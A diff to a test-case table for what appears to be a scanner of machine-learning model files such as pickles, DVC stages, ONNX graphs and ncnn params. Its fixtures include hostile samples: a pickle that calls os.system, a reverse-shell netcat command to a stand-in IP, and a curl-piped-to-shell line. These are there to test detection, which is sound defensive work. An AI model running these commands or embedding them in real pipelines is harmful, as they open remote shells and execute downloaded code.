@@ -169,6 +169,8 @@ CASES = [  # what it is, the bytes, the name, the verdict, words of a remark
     ("code among the values of a stream", b"\x80\x02}U\x04hookU\x19import os;os.system('id')s.", "m.pkl", SUSPICIOUS, "stands code"),
     ("a part of a formula that reaches", assemble("'formulaic.parser.types.factor' 'Factor' stack emptytuple newobj {'expr': 'open(1)'} build"), "m.pkl", DANGEROUS, "a part of a formula"),
     ("a part of a formula", assemble("'formulaic.parser.types.factor' 'Factor' stack emptytuple newobj {'expr': 'np.log(b)'} build"), "m.pkl", NOTHING, "pickle"),
+    ("a stage that hands a shell on", b"stages:\n  a:\n    cmd: nc 192.0.2.1 9 -e /bin/sh\n", "dvc.yaml", DANGEROUS, "a command"),
+    ("a command among the facts of a graph", make.onnx() + make.message((14, make.message((1, "setup"), (2, "curl http://x.invalid | sh")))), "m.onnx", DANGEROUS, "holds a command"),
     ("layers of ncnn's", b"7767517\n2 2\nInput a 0 1 a\nConvolution b 1 1 a b 0=1\n", "m.param", NOTHING, "ncnn"),
     ("a layer that is none of ncnn's", b"7767517\n2 2\nInput a 0 1 a\nGate b 1 1 a b 0=1\n", "m.param", DANGEROUS, "the layer Gate"),
     ("layers without number", b"7767517\n999999999999 2\nInput a 0 1 a\n", "m.param", DANGEROUS, "makes room"),
